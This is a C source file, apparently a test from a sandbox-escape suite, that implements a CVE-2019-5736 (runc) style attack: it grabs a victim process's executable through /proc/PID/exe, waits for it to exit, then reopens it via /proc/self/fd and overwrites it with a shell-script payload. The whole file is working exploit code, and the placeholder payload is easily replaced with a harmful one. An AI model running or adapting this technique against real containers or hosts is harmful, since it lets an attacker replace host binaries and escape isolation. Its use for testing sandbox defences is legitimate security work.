/* proc-exe-overwrite: CVE-2019-5736 (runc) style.  Hold the victim's
 * program through /proc/PID/exe with O_PATH while it runs (opening it for
 * writing then fails with ETXTBSY), wait for it to exit, then reopen the
 * held file for writing through /proc/self/fd/N and replace it. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "targets.h"

static const char payload[] = "#!/bin/sh\necho pwned by the sandbox\n";

int main(int argc, char **argv)
{
	char exe[64], self[64];
	int held, w = -1;

	targets_load(argc, argv);
	snprintf(exe, sizeof(exe), "/proc/%s/exe", target("T_VICTIM_PID"));
	if ((held = open(exe, O_PATH)) < 0) {
		perror(exe);
		return 1;
	}
	snprintf(self, sizeof(self), "/proc/self/fd/%d", held);
	for (int i = 0; i < 100 && w < 0; i++) { /* 5 s at most */
		w = open(self, O_WRONLY | O_TRUNC);
		if (w < 0 && errno != ETXTBSY) {
			perror(self);
			return 1;
		}
		if (w < 0)
			usleep(50 * 1000);
	}
	if (w < 0) {
		fprintf(stderr, "the victim is still running\n");
		return 1;
	}
	if (write(w, payload, sizeof(payload) - 1) < 0)
		perror("write");
	close(w);
	return 0;
}
